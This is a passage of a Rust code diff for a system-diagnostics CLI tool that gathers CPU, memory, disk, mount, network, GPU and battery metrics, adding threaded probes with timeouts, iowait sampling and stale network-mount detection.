+    let raw = RAW_COMMANDS.lock().unwrap().take().unwrap_or_default();
+
+    let mut metrics = Metrics::default();
+    update(&mut metrics);
+    let before = serde_json::to_value(Metrics::default()).ok()?;
+    let after = serde_json::to_value(&metrics).ok()?;
+    let parsed = after
+        .as_object()?
+        .iter()
+        .filter(|(field, value)| before.get(field.as_str()) != Some(value))
+        .map(|(field, value)| (field.clone(), value.clone()))
+        .collect();
+    Some(ProbeReport { raw, parsed })
+}
+
+fn show_probe_report(name: &str, report: &ProbeReport) {
+    print_header(&t!("probe_header").replace("{name}", name));
+    println!("\n{}", t!("probe_raw_header").to_string().bold());
+    if report.raw.is_empty() {
+        println!("  {}", t!("probe_no_commands").to_string().dimmed());
+    }
+    for raw in &report.raw {
+        println!(
+            "  $ {} {}",
+            raw.command.cyan(),
+            format!("({})", raw.outcome).dimmed()
+        );
+        for line in raw.stdout.lines() {
+            println!("    {line}");
+        }
+        for line in raw.stderr.lines() {
+            println!("    {}", line.yellow());
+        }
+    }
+    println!("\n{}", t!("probe_parsed_header").to_string().bold());
+    if report.parsed.is_empty() {
+        println!("  {}", t!("probe_no_values").to_string().dimmed());
+    }
+    for (field, value) in &report.parsed {
+        println!("  {field} = {value}");
+    }
+}
+
+/// Probes whose metrics the command's handler or its rules read. CPU, RAM,
+/// root disk and processes are always gathered; iowait needs a sampling window.
+fn probes_for(command: &Commands) -> &'static [Probe] {
+    match command {
+        Commands::Cpu | Commands::Fan | Commands::Hot => &[Probe::Sensors],
+        Commands::Mem { .. }
+        | Commands::Bluetooth
+        | Commands::BootCritical
+        | Commands::Security { .. }
+        | Commands::KubeNode
+        | Commands::Io
+        | Commands::Lib { .. }
+        | Commands::Oom
+        | Commands::CheckDeps
+        | Commands::ConfigCheck { .. }
+        | Commands::Historical { .. }
+        | Commands::Crash { .. }
+        | Commands::Coredump
+        | Commands::Fixes
+        | Commands::Diff { .. } => &[],
+        Commands::Disk => &[Probe::Storage, Probe::Packages, Probe::Docker],
+        Commands::Battery { .. } => &[Probe::Battery],
+        Commands::Net { .. } => &[Probe::Wifi, Probe::Network],
+        Commands::Wifi => &[Probe::Wifi],
+        Commands::Update => &[Probe::Packages],
+        Commands::Services => &[Probe::Services, Probe::Restarts],
+        Commands::Boot { .. } => &[Probe::Restarts],
+        Commands::Storage { .. } => &[Probe::Storage],
+        Commands::Gpu { .. } => &[Probe::Desktop, Probe::Gaming, Probe::Sensors],
+        Commands::Gaming { .. } => &[Probe::Gaming, Probe::Desktop, Probe::Sensors],
+        Commands::All | Commands::Rca | Commands::Doctor { .. } | Commands::Metrics => BROAD_PROBES,
+        // Ack may need any rule's metric
+        Commands::Slow | Commands::Ack { .. } => ALL_PROBES,
+    }
+}
+
+/// Signal of the connected network, else the strongest one seen
+fn best_wifi_signal(nets: &[WifiNetwork]) -> Option<f32> {
+    nets.iter()
+        .find(|net| net.active)
+        .or_else(|| {
+            nets.iter().max_by(|a, b| match (a.signal, b.signal) {
+                (Some(lhs), Some(rhs)) => lhs.partial_cmp(&rhs).unwrap_or(Ordering::Equal),
+                (Some(_), None) => Ordering::Greater,
+                (None, Some(_)) => Ordering::Less,
+                (None, None) => Ordering::Equal,
+            })
+        })
+        .and_then(|net| net.signal)
+}
+
+/// The `n` greatest items by `cmp`, greatest first, without sorting the rest;
+/// `n` 0 keeps (and sorts) everything
+fn top_n_by<T>(mut items: Vec<T>, n: usize, cmp: impl Fn(&T, &T) -> Ordering) -> Vec<T> {
+    let descending = |a: &T, b: &T| cmp(b, a);
+    if n > 0 && items.len() > n {
+        items.select_nth_unstable_by(n - 1, descending);
+        items.truncate(n);
+    }
+    items.sort_by(descending);
+    items
+}
+
+/// Heavier by CPU, then by memory
+fn process_weight(a: &(f32, u64, &str), b: &(f32, u64, &str)) -> Ordering {
+    a.0.partial_cmp(&b.0)
+        .unwrap_or(Ordering::Equal)
+        .then(a.1.cmp(&b.1))
+}
+
+/// Of the `limit` heaviest processes (`(cpu, memory, name)`, 0 = all): the
+/// lowercased names, heaviest first, and the memory per name; plus the count
+/// of every process. The cap is applied before any name is lowercased or
+/// grouped, so a busy server costs no more than `limit` processes.
+fn process_metrics(
+    processes: Vec<(f32, u64, &str)>,
+    limit: usize,
+) -> (Vec<String>, BTreeMap<String, u64>, usize) {
+    let total = processes.len();
+    let inspected = top_n_by(processes, limit, process_weight);
+    let names = inspected
+        .iter()
+        .map(|(_, _, name)| name.to_ascii_lowercase())
+        .collect();
+    (names, process_memory(&inspected), total)
+}
+
+/// Memory in MB summed per lowercased name (`(cpu, bytes, name)`)
+fn process_memory(processes: &[(f32, u64, &str)]) -> BTreeMap<String, u64> {
+    let mut per_name: BTreeMap<String, u64> = BTreeMap::new();
+    for (_, memory, name) in processes {
+        *per_name.entry(name.to_ascii_lowercase()).or_default() += memory;
+    }
+    for memory in per_name.values_mut() {
+        *memory /= 1024 * 1024;
+    }
+    per_name
+}
+
+/// Share of total RAM used by the processes whose name contains `needle`;
+/// None when none of them runs
+fn process_memory_percent(metrics: &Metrics, needle: &str) -> Option<f32> {
+    if metrics.total_ram_mb == 0 {
+        return None;
+    }
+    let mut matching = metrics
+        .process_memory_mb
+        .iter()
+        .filter(|(name, _)| name.contains(needle))
+        .map(|(_, memory)| *memory)
+        .peekable();
+    matching.peek()?;
+    Some(matching.sum::<u64>() as f32 / metrics.total_ram_mb as f32 * 100.0)
+}
+
+/// sysinfo derives CPU usage from the delta between two refreshes at least
+/// `MINIMUM_CPU_UPDATE_INTERVAL` apart; a single refresh reads 0% or noise.
+/// After the initial full refresh, only commands whose probes report CPU load
+/// (sensors: cpu, hot, fan, gpu, gaming and the broad views) wait out the
+/// window and `refresh_cpu` again. Returns whether they did; the others leave
+/// `cpu_usage` unset, so CPU rules don't fire and no reading is exported.
+fn resample_cpu(
+    probes: &[Probe],
+    refresh_cpu: impl FnOnce(),
+    sleep: impl FnOnce(Duration),
+) -> bool {
+    if !reports_cpu_load(probes) {
+        return false;
+    }
+    sleep(sysinfo::MINIMUM_CPU_UPDATE_INTERVAL);
+    refresh_cpu();
+    true
+}
+
+/// Whether any of `probes` shows CPU load, so the run needs a sampled reading
+fn reports_cpu_load(probes: &[Probe]) -> bool {
+    probes.contains(&Probe::Sensors)
+}
+
+/// `12.5%`, or `n/a` when the CPU was not sampled
+fn cpu_percent_label(metrics: &Metrics) -> String {
+    metrics
+        .cpu_usage
+        .map_or("n/a".to_string(), |cpu| format!("{cpu:.1}%"))
+}
+
+/// Views that list processes by CPU also need a second process refresh
+fn ranks_processes_by_cpu(command: &Commands) -> bool {
+    matches!(
+        command,
+        Commands::Slow | Commands::Fan | Commands::Doctor { .. }
+    )
+}
+
+/// `--repeat`: gather `count` samples `delay` apart and average them. Also
+/// returns the probes abandoned at `deadline`, past which no further sample
+/// is taken. `window_start` is the `/proc/stat` read from before the CPU
+/// sampling window, if one was taken; without `cpu_sampled` the first sample
+/// has no CPU usage.
+fn gather_samples(
+    sys: &mut System,
+    probes: &[Probe],
+    count: u32,
+    delay: Duration,
+    deadline: Option<Instant>,
+    mut window_start: Option<Vec<CpuTimes>>,
+    mut cpu_sampled: bool,
+) -> (Metrics, Vec<&'static str>) {
+    // Shorter gaps would give unreliable CPU deltas
+    let delay = delay.max(sysinfo::MINIMUM_CPU_UPDATE_INTERVAL);
+    let mut samples = Vec::new();
+    let mut timed_out = Vec::new();
+    for idx in 0..count {
+        if idx > 0 {
+            if deadline.is_some_and(|deadline| Instant::now() + delay >= deadline) {
+                break;
+            }
+            window_start = read_cpu_times();
+            std::thread::sleep(delay);
+            sys.refresh_cpu_usage();
+            sys.refresh_memory();
+            cpu_sampled = reports_cpu_load(probes);
+        }
+        // Over the window that just elapsed, not however long the probes take
+        let iowait = iowait_since(window_start.take());
+        let mut metrics = match deadline {
+            Some(deadline) => {
+                let budget = deadline.saturating_duration_since(Instant::now());
+                let (metrics, late) = Metrics::gather_within(sys, probes, budget, Probe::measure);
+                timed_out = late.into_iter().map(Probe::label).collect();
+                metrics
+            }
+            None => Metrics::gather_for(sys, probes),
+        };
+        metrics.iowait_percent = iowait;
+        if !cpu_sampled {
+            metrics.cpu_usage = None;
+        }
+        samples.push(metrics);
+    }
+    (average_metrics(samples), timed_out)
+}
+
+/// Run `job` on its own thread and wait for it until `deadline`; a job still
+/// running then is abandoned (its thread ends with the process)
+fn run_until<T: Send + 'static>(
+    deadline: Instant,
+    job: impl FnOnce() -> T + Send + 'static,
+) -> Option<T> {
+    spawn_job(job)
+        .recv_timeout(deadline.saturating_duration_since(Instant::now()))
+        .ok()
+}
+
+/// Start `job` on its own thread; its result arrives on the receiver
+fn spawn_job<T: Send + 'static>(job: impl FnOnce() -> T + Send + 'static) -> mpsc::Receiver<T> {
+    let (tx, rx) = mpsc::channel();
+    std::thread::spawn(move || {
+        let _ = tx.send(job());
+    });
+    rx
+}
+
+/// Mean of every numeric field (over the samples that have it) and "any" of
+/// every boolean; text, list and fixed fields come from the last sample
+fn average_metrics(samples: Vec<Metrics>) -> Metrics {
+    let Some(last) = samples.last() else {
+        return Metrics::default();
+    };
+    // Exhaustive, so a new field has to pick a side here
+    let Metrics {
+        cpu_usage: _,
+        mem_usage: _,
+        total_ram_mb,
+        swap_usage_percent: _,
+        swap_total_mb,
+        load_avg_1: _,
+        load_avg_5: _,
+        load_avg_15: _,
+        disk_full_percent: _,
+        inode_full_percent: _,
+        filesystem,
+        snap_loops: _,
+        flatpak_unused: _,
+        battery_drain_w: _,
+        wifi_channel_count: _,
+        wifi_signal_dbm: _,
+        fan_speed_rpm: _,
+        temperature_c: _,
+        wayland_vs_x11,
+        docker_dangling: _,
+        process_names,
+        process_count: _,
+        process_memory_mb,
+        pipewire_latency_ms: _,
+        firefox_soft_render: _,
+        zfs_arc_full_percent: _,
+        luks_device_count: _,
+        gpu,
+        prime_offload_enabled: _,
+        gamescope_running: _,
+        steam_running: _,
+        proton_failure_detected: _,
+        vulkan_loader_missing: _,
+        conntrack_usage_percent: _,
+        tmpfs_full_percent: _,
+        vulkan_device_count,
+        iowait_percent: _,
+        stale_mounts,
+        firmware_updates,
+        coredump_size_mb: _,
+        hw_encoder_missing,
+        unit_restarts: _,
+        failed_units: _,
+        gpu_driver_mismatch,
+        gpu_underclocked,
+    } = last.clone();
+    let mean = |field: fn(&Metrics) -> Option<f32>| -> Option<f32> {
+        let values: Vec<f32> = samples.iter().filter_map(field).collect();
+        (!values.is_empty()).then(|| values.iter().sum::<f32>() / values.len() as f32)
+    };
+    let mean_count = |field: fn(&Metrics) -> Option<u32>| -> Option<u32> {
+        let values: Vec<f32> = samples.iter().filter_map(field).map(|v| v as f32).collect();
+        (!values.is_empty())
+            .then(|| (values.iter().sum::<f32>() / values.len() as f32).round() as u32)
+    };
+    let any_opt = |field: fn(&Metrics) -> Option<bool>| -> Option<bool> {
+        let values: Vec<bool> = samples.iter().filter_map(field).collect();
+        (!values.is_empty()).then(|| values.contains(&true))
+    };
+
+    Metrics {
+        cpu_usage: mean(|m| m.cpu_usage),
+        mem_usage: mean(|m| Some(m.mem_usage)).unwrap_or(last.mem_usage),
+        swap_usage_percent: mean(|m| Some(m.swap_usage_percent)).unwrap_or(last.swap_usage_percent),
+        load_avg_1: mean(|m| m.load_avg_1),
+        load_avg_5: mean(|m| m.load_avg_5),
+        load_avg_15: mean(|m| m.load_avg_15),
+        disk_full_percent: mean(|m| Some(m.disk_full_percent)).unwrap_or(last.disk_full_percent),
+        inode_full_percent: mean(|m| m.inode_full_percent),
+        snap_loops: mean_count(|m| m.snap_loops),
+        flatpak_unused: mean_count(|m| m.flatpak_unused),
+        battery_drain_w: mean(|m| m.battery_drain_w),
+        wifi_channel_count: mean_count(|m| m.wifi_channel_count),
+        wifi_signal_dbm: mean(|m| m.wifi_signal_dbm),
+        fan_speed_rpm: mean(|m| m.fan_speed_rpm),
+        temperature_c: mean(|m| m.temperature_c),
+        docker_dangling: mean_count(|m| m.docker_dangling),
+        process_count: mean_count(|m| Some(m.process_count as u32))
+            .map_or(last.process_count, |count| count as usize),
+        pipewire_latency_ms: mean(|m| m.pipewire_latency_ms),
+        firefox_soft_render: any_opt(|m| m.firefox_soft_render),
+        zfs_arc_full_percent: mean(|m| m.zfs_arc_full_percent),
+        luks_device_count: mean_count(|m| m.luks_device_count),
+        prime_offload_enabled: any_opt(|m| m.prime_offload_enabled),
+        gamescope_running: any_opt(|m| m.gamescope_running),
+        steam_running: any_opt(|m| m.steam_running),
+        proton_failure_detected: any_opt(|m| m.proton_failure_detected),
+        vulkan_loader_missing: any_opt(|m| m.vulkan_loader_missing),
+        conntrack_usage_percent: mean(|m| m.conntrack_usage_percent),
+        tmpfs_full_percent: mean(|m| m.tmpfs_full_percent),
+        iowait_percent: mean(|m| m.iowait_percent),
+        coredump_size_mb: mean(|m| m.coredump_size_mb),
+        unit_restarts: mean_count(|m| m.unit_restarts),
+        failed_units: mean_count(|m| m.failed_units),
+        total_ram_mb,
+        swap_total_mb,
+        filesystem,
+        wayland_vs_x11,
+        process_names,
+        process_memory_mb,
+        stale_mounts,
+        // Filled once after averaging by gpu_update()/firmware_update()
+        gpu,
+        vulkan_device_count,
+        firmware_updates,
+        hw_encoder_missing,
+        gpu_driver_mismatch,
+        gpu_underclocked,
+    }
+}
+
+impl Metrics {
+    fn gather_for(sys: &System, probes: &[Probe]) -> Self {
+        Self::gather_within(sys, probes, Duration::MAX, Probe::measure).0
+    }
+
+    /// Every probe measured on its own thread while the `sys`-derived core
+    /// metrics are read here. Probes that have not finished within `budget`,
+    /// or that panicked, are left unset and returned.
+    fn gather_within(
+        sys: &System,
+        probes: &[Probe],
+        budget: Duration,
+        measure: fn(Probe) -> ProbeUpdate,
+    ) -> (Self, Vec<Probe>) {
+        // No deadline when the budget is too large to add
+        let deadline = Instant::now().checked_add(budget);
+        let (tx, rx) = mpsc::channel();
+        for &probe in probes {
+            let tx = tx.clone();
+            std::thread::spawn(move || {
+                let _ = tx.send((probe, measure(probe)));
+            });
+        }
+        drop(tx);
+        let mut finished: Vec<(Probe, ProbeUpdate)> = Vec::new();
+        let mut timed_out = Vec::new();
+        let metrics = Self::gather_with(sys, probes, |probe, metrics| {
+            while !finished.iter().any(|(done, _)| *done == probe) {
+                let remaining = deadline.map_or(Duration::MAX, |deadline| {
+                    deadline.saturating_duration_since(Instant::now())
+                });
+                match rx.recv_timeout(remaining) {
+                    Ok(result) => finished.push(result),
+                    Err(_) => break,
+                }
+            }
+            match finished.iter().position(|(done, _)| *done == probe) {
+                Some(idx) => (finished.swap_remove(idx).1)(metrics),
+                None => timed_out.push(probe),
+            }
+        });
+        (metrics, timed_out)
+    }
+
+    /// Core metrics plus the given probes, each executed through `run`
+    fn gather_with(
+        sys: &System,
+        probes: &[Probe],
+        mut run: impl FnMut(Probe, &mut Metrics),
+    ) -> Self {
+        let processes: Vec<(f32, u64, &str)> = sys
+            .processes()
+            .values()
+            .map(|proc| (proc.cpu_usage(), proc.memory(), proc.name()))
+            .collect();
+        let (process_names, process_memory_mb, process_count) =
+            process_metrics(processes, config::config().max_processes);
+        let load_average = read_load_average();
+        let mut metrics = Metrics {
+            cpu_usage: Some(sys.global_cpu_info().cpu_usage()),
+            mem_usage: memory_percent(sys),
+            total_ram_mb: sys.total_memory() / (1024 * 1024),
+            swap_usage_percent: swap_percent(sys),
+            swap_total_mb: sys.total_swap() / (1024 * 1024),
+            load_avg_1: load_average.map(|(one, _, _)| one),
+            load_avg_5: load_average.map(|(_, five, _)| five),
+            load_avg_15: load_average.map(|(_, _, fifteen)| fifteen),
+            disk_full_percent: disk_usage_percent(),
+            filesystem: root_filesystem(),
+            process_names,
+            process_count,
+            process_memory_mb,
+            gpu: None, // GPU detection moved out of gather() to avoid hammering in watch mode
+            vulkan_device_count: None, // filled by gpu_update()
+            firmware_updates: None, // filled by firmware_update()
+            ..Default::default()
+        };
+        for probe in probes {
+            run(*probe, &mut metrics);
+        }
+        metrics
+    }
+}
+
+/// fwupd is slow to query, so only `why update` and snapshots pay for it
+fn firmware_update() -> ProbeUpdate {
+    let updates = read_firmware_updates().map(|devices| devices.len() as u32);
+    Box::new(move |metrics| metrics.firmware_updates = updates)
+}
+
+/// One nvidia-smi query plus sysfs; see `gpu_update_full` for the rest
+fn gpu_update() -> ProbeUpdate {
+    gpu_probe(false)
+}
+
+/// Also runs vulkaninfo, vainfo and modinfo: `why gpu --vulkan/--encoder`
+/// and snapshots only
+fn gpu_update_full() -> ProbeUpdate {
+    gpu_probe(true)
+}
+
+fn gpu_probe(full: bool) -> ProbeUpdate {
+    let nvidia = query_nvidia();
+    let gpu = detect_gpu_info_from(nvidia.as_ref());
+    let driver_mismatch = nvidia_driver_state(nvidia.as_ref(), full).map(|state| state.mismatch());
+    let underclocked = any_gpu_underclocked(&gpu_clocks(nvidia.as_ref()));
+    let (vulkan_devices, encoder_missing) = if full {
+        (
+            read_vulkan_devices().map(|devices| devices.len() as u32),
+            hw_encoders(nvidia.as_ref()).map(|encoders| encoders.is_empty()),
+        )
+    } else {
+        (None, None)
+    };
+    Box::new(move |metrics| {
+        metrics.gpu = gpu;
+        metrics.vulkan_device_count = vulkan_devices;
+        metrics.hw_encoder_missing = encoder_missing;
+        metrics.gpu_driver_mismatch = driver_mismatch;
+        metrics.gpu_underclocked = underclocked;
+    })
+}
+
+/// Cumulative jiffies from one `/proc/stat` cpu line
+#[derive(Clone, Copy, Debug, Default, PartialEq)]
+struct CpuTimes {
+    iowait: u64,
+    total: u64,
+}
+
+fn read_cpu_times() -> Option<Vec<CpuTimes>> {
+    fs::read_to_string("/proc/stat")
+        .ok()
+        .map(|text| parse_cpu_times(&text))
+        .filter(|cpus| !cpus.is_empty())
+}
+
+/// Per-CPU (`cpuN`) times; the aggregate `cpu` line is skipped and re-summed
+fn parse_cpu_times(text: &str) -> Vec<CpuTimes> {
+    text.lines()
+        .filter(|line| {
+            line.strip_prefix("cpu")
+                .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()))
+        })
+        .filter_map(|line| {
+            // user nice system idle iowait irq softirq steal (guest is already in user)
+            let fields: Vec<u64> = line
+                .split_whitespace()
+                .skip(1)
+                .take(8)
+                .map(|value| value.parse().ok())
+                .collect::<Option<_>>()?;
+            Some(CpuTimes {
+                iowait: *fields.get(4)?,
+                total: fields.iter().sum(),
+            })
+        })
+        .collect()
+}
+
+/// Share of CPU time spent waiting on I/O between two snapshots
+fn iowait_percent(before: &[CpuTimes], after: &[CpuTimes]) -> Option<f32> {
+    let sum = |cpus: &[CpuTimes]| {
+        cpus.iter().fold(CpuTimes::default(), |acc, cpu| CpuTimes {
+            iowait: acc.iowait + cpu.iowait,
+            total: acc.total + cpu.total,
+        })
+    };
+    let (before, after) = (sum(before), sum(after));
+    let total = after.total.checked_sub(before.total)?;
+    if total == 0 {
+        return None;
+    }
+    let iowait = after.iowait.saturating_sub(before.iowait);
+    Some((iowait as f32 / total as f32) * 100.0)
+}
+
+/// iowait from `before` until now; None without a starting read
+fn iowait_since(before: Option<Vec<CpuTimes>>) -> Option<f32> {
+    before
+        .zip(read_cpu_times())
+        .and_then(|(before, after)| iowait_percent(&before, &after))
+}
+
+/// None where `/proc/loadavg` does not exist (macOS)
+fn read_load_average() -> Option<(f32, f32, f32)> {
+    fs::read_to_string("/proc/loadavg")
+        .ok()
+        .and_then(|text| parse_load_average(&text))
+}
+
+/// The first three fields of `/proc/loadavg`: `0.52 0.58 0.59 1/1234 5678`
+fn parse_load_average(text: &str) -> Option<(f32, f32, f32)> {
+    let mut fields = text.split_whitespace().map(|field| field.parse().ok());
+    Some((fields.next()??, fields.next()??, fields.next()??))
+}
+
+fn swap_percent(sys: &System) -> f32 {
+    let total = sys.total_swap() as f32;
+    if total == 0.0 {
+        return 0.0;
+    }
+    (sys.used_swap() as f32 / total) * 100.0
+}
+
+fn memory_percent(sys: &System) -> f32 {
     let total = sys.total_memory() as f32;
     if total == 0.0 {
         return 0.0;
@@ -782,15 +3334,180 @@ fn memory_percent(sys: &System) -> f32 {
 
 fn disk_usage_percent() -> f32 {
     run_cmd_c_locale("df", &["-P", "/"])
-        .and_then(|text| {
-            text.lines()
-                .nth(1)
-                .and_then(|line| line.split_whitespace().nth(4))
-                .and_then(|percent| percent.trim_end_matches('%').parse::<f32>().ok())
-        })
+        .and_then(|text| df_use_percent(&text))
         .unwrap_or(0.0)
 }
 
+fn read_inode_usage_percent() -> Option<f32> {
+    df_use_percent(&run_cmd_c_locale("df", &["-i", "-P", "/"])?)
+}
+
+/// Use% (or IUse% with `-i`) of the first filesystem in `df -P` output;
+/// None for `-`, which filesystems without fixed inode tables report
+fn df_use_percent(text: &str) -> Option<f32> {
+    text.lines()
+        .nth(1)
+        .and_then(|line| line.split_whitespace().nth(4))
+        .and_then(|percent| percent.trim_end_matches('%').parse::<f32>().ok())
+}
+
+/// Filesystem types with no meaningful capacity, skipped by the per-mount scan
+const PSEUDO_FILESYSTEMS: &[&str] = &[
+    "autofs",
+    "binfmt_misc",
+    "bpf",
+    "cgroup",
+    "cgroup2",
+    "configfs",
+    "debugfs",
+    "devpts",
+    "devtmpfs",
+    "efivarfs",
+    "fusectl",
+    "hugetlbfs",
+    "mqueue",
+    "nsfs",
+    "proc",
+    "pstore",
+    "rpc_pipefs",
+    "securityfs",
+    "selinuxfs",
+    "squashfs",
+    "sysfs",
+    "tracefs",
+];
+
+#[derive(Clone, Debug, PartialEq)]
+struct MountEntry {
+    mount_point: String,
+    fs_type: String,
+}
+
+/// Mounts worth checking for free space, tmpfs included (parsed from /proc/mounts)
+fn parse_mounts(data: &str) -> Vec<MountEntry> {
+    let mut mounts: Vec<MountEntry> = Vec::new();
+    for line in data.lines() {
+        let mut parts = line.split_whitespace();
+        let (Some(_device), Some(mount_point), Some(fs_type)) =
+            (parts.next(), parts.next(), parts.next())
+        else {
+            continue;
+        };
+        if PSEUDO_FILESYSTEMS.contains(&fs_type) {
+            continue;
+        }
+        // /proc/mounts escapes spaces in paths as \040
+        let mount_point = mount_point.replace("\\040", " ");
+        if mounts.iter().any(|m| m.mount_point == mount_point) {
+            continue;
+        }
+        mounts.push(MountEntry {
+            mount_point,
+            fs_type: fs_type.to_string(),
+        });
+    }
+    mounts
+}
+
+fn tmpfs_mounts() -> Vec<MountEntry> {
+    fs::read_to_string("/proc/mounts")
+        .map(|data| parse_mounts(&data))
+        .unwrap_or_default()
+        .into_iter()
+        .filter(|m| m.fs_type == "tmpfs")
+        .collect()
+}
+
+/// Filesystems backed by a remote server; a dead server makes stat() block
+const NETWORK_FILESYSTEMS: &[&str] = &[
+    "nfs",
+    "nfs4",
+    "cifs",
+    "smb3",
+    "smbfs",
+    "ceph",
+    "9p",
+    "fuse.sshfs",
+    "fuse.glusterfs",
+    "fuse.rclone",
+    "fuse.davfs",
+];
+/// How long a network mount may take to answer stat before it counts as stale
+const MOUNT_STAT_TIMEOUT: Duration = Duration::from_secs(2);
+
+fn network_mounts(mounts: &[MountEntry]) -> Vec<MountEntry> {
+    mounts
+        .iter()
+        .filter(|m| NETWORK_FILESYSTEMS.contains(&m.fs_type.as_str()))
+        .cloned()
+        .collect()
+}
+
+/// Network mounts whose `stat -f` does not return in time. Each probe runs in a
+/// child process, so a mount stuck in D state can't hang why itself.
+fn detect_stale_mounts() -> Vec<String> {
+    let mounts = fs::read_to_string("/proc/mounts")
+        .map(|data| network_mounts(&parse_mounts(&data)))
+        .unwrap_or_default();
+    // Side by side, so the whole check takes one timeout at most
+    std::thread::scope(|scope| {
+        let probes: Vec<_> = mounts
+            .into_iter()
+            .map(|mount| {
+                scope.spawn(move || {
+                    let result = spawn_with_timeout(
+                        Command::new("stat")
+                            .arg("-f")
+                            .arg("--")
+                            .arg(&mount.mount_point),
+                        MOUNT_STAT_TIMEOUT,
+                    );
+                    let timed_out = result
+                        .err()
+                        .is_some_and(|err| err.kind() == std::io::ErrorKind::TimedOut);
+                    timed_out.then_some(mount.mount_point)
+                })
+            })
+            .collect();
+        probes
+            .into_iter()
+            .filter_map(|probe| probe.join().ok().flatten())
+            .collect()
+    })
+}
+
+/// Usage percent per mount point via a single `df -P` call
+fn mount_usage(mounts: &[MountEntry]) -> Vec<(String, f32)> {
+    if mounts.is_empty() {
+        return Vec::new();
+    }
+    let mut args = vec!["-P"];
+    args.extend(mounts.iter().map(|m| m.mount_point.as_str()));
+    run_cmd_c_locale("df", &args)
+        .map(|text| parse_df_usage(&text))
+        .unwrap_or_default()
+}
+
+fn parse_df_usage(text: &str) -> Vec<(String, f32)> {
+    text.lines()
+        .skip(1)
+        .filter_map(|line| {
+            let parts: Vec<&str> = line.split_whitespace().collect();
+            let percent = parts.get(4)?.trim_end_matches('%').parse::<f32>().ok()?;
+            let mount_point = parts.get(5..)?.join(" ");
+            Some((mount_point, percent))
+        })
+        .collect()
+}
+
+/// Fullest tmpfs mount (these live in RAM/swap, so a full one costs memory)
+fn read_tmpfs_full_percent() -> Option<f32> {
+    mount_usage(&tmpfs_mounts())
+        .into_iter()
+        .map(|(_, percent)| percent)
+        .max_by(|a, b| a.partial_cmp(b).unwrap_or(Ordering::Equal))
+}
+
 fn root_filesystem() -> Option<String> {
     if let Ok(mounts) = fs::read_to_string("/proc/mounts") {
         for line in mounts.lines() {
@@ -812,7 +3529,10 @@ fn root_filesystem() -> Option<String> {
             }
         }
     }
-    let linux = Command::new("stat").args(["-f", "-c", "%T", "/"]).output();
+    let linux = output_with_timeout(
+        Command::new("stat").args(["-f", "-c", "%T", "/"]),
+        command_timeout(),
+    );
     if let Ok(output) = linux {
         if output.status.success() {
             let fs_type = String::from_utf8_lossy(&output.stdout).trim().to_string();
@@ -821,7 +3541,11 @@ fn root_filesystem() -> Option<String> {
             }
         }
     }
-    let mac = Command::new("stat").args(["-f", "%T", "/"]).output().ok()?;
+    let mac = output_with_timeout(
+        Command::new("stat").args(["-f", "%T", "/"]),
+        command_timeout(),
+    )
+    .ok()?;
     if !mac.status.success() {
         return None;
     }
@@ -834,34 +3558,35 @@ fn root_filesystem() -> Option<String> {
 }
 
 fn read_total_network_received() -> Option<u64> {
+    read_interface_stats().map(|interfaces| {
+        interfaces
+            .iter()
+            .fold(0u64, |total, iface| total.saturating_add(iface.rx_bytes))
+    })
+}
+
+/// `/proc/net/dev`, or `netstat -ib` where it does not exist (macOS)
+fn read_interface_stats() -> Option<Vec<InterfaceStats>> {
     if let Ok(devices) = fs::read_to_string("/proc/net/dev") {
-        let mut total = 0u64;
-        for line in devices.lines().skip(2) {
-            let parts: Vec<&str> = line.split_whitespace().collect();
-            if parts.len() > 1 {
-                if let Ok(value) = parts[1].parse::<u64>() {
-                    total = total.saturating_add(value);
-                }
-            }
-        }
-        return Some(total);
+        return Some(parse_proc_net_dev(&devices));
     }
+    run_cmd_c_locale("netstat", &["-ib"]).map(|text| parse_netstat_ib(&text))
+}
 
-    let output = Command::new("netstat").args(["-ib"]).output().ok()?;
-    if !output.status.success() {
+/// nf_conntrack table fill level; None when the module isn't loaded
+fn read_conntrack_usage_percent() -> Option<f32> {
+    let count = fs::read_to_string("/proc/sys/net/netfilter/nf_conntrack_count").ok()?;
+    let max = fs::read_to_string("/proc/sys/net/netfilter/nf_conntrack_max").ok()?;
+    conntrack_usage_percent(&count, &max)
+}
+
+fn conntrack_usage_percent(count: &str, max: &str) -> Option<f32> {
+    let count = count.trim().parse::<f64>().ok()?;
+    let max = max.trim().parse::<f64>().ok()?;
+    if max <= 0.0 {
         return None;
     }
-    let mut total = 0u64;
-    for line in String::from_utf8_lossy(&output.stdout).lines().skip(1) {
-        let parts: Vec<&str> = line.split_whitespace().collect();
-        if parts.len() <= 6 {
-            continue;
-        }
-        if let Ok(value) = parts[6].parse::<u64>() {
-            total = total.saturating_add(value);
-        }
-    }
-    Some(total)
+    Some(((count / max) * 100.0) as f32)
 }
 
 fn count_snap_loops() -> Option<u32> {
@@ -874,10 +3599,11 @@ fn count_snap_loops() -> Option<u32> {
 }
 
 fn count_flatpak_unused() -> Option<u32> {
-    let output = Command::new("flatpak")
-        .args(["list", "--app", "--columns=application,installation"])
-        .output()
-        .ok()?;
+    let output = output_with_timeout(
+        Command::new("flatpak").args(["list", "--app", "--columns=application,installation"]),
+        command_timeout(),
+    )
+    .ok()?;
     if !output.status.success() {
         return None;
     }
@@ -885,12 +3611,40 @@ fn count_flatpak_unused() -> Option<u32> {
     Some(text.lines().count() as u32)
 }
 
+const POWER_SUPPLY_DIR: &str = "/sys/class/power_supply";
+
+/// (full, design) capacity of the first battery, in µWh (`energy_*`) or,
+/// for batteries that only report charge, µAh (`charge_*`)
+fn read_battery_capacity(power_supply: &Path) -> Option<(f64, f64)> {
+    let mut entries: Vec<PathBuf> = fs::read_dir(power_supply)
+        .ok()?
+        .flatten()
+        .map(|entry| entry.path())
+        .filter(|path| {
+            fs::read_to_string(path.join("type")).is_ok_and(|kind| kind.trim() == "Battery")
+        })
+        .collect();
+    entries.sort();
+    let read = |dir: &Path, name: &str| -> Option<f64> {
+        fs::read_to_string(dir.join(name)).ok()?.trim().parse().ok()
+    };
+    entries.iter().find_map(|dir| {
+        ["energy", "charge"].iter().find_map(|kind| {
+            let full = read(dir, &format!("{kind}_full"))?;
+            let design = read(dir, &format!("{kind}_full_design"))?;
+            (design > 0.0).then_some((full, design))
+        })
+    })
+}
+
 fn read_battery_drain() -> Option<f32> {
-    let path = Command::new("sh")
-        .arg("-c")
-        .arg("upower -e | grep -m1 -E 'BAT|battery'")
-        .output()
-        .ok()?;
+    let path = output_with_timeout(
+        Command::new("sh")
+            .arg("-c")
+            .arg("upower -e | grep -m1 -E 'BAT|battery'"),
+        command_timeout(),
+    )
+    .ok()?;
     if !path.status.success() {
         return None;
     }
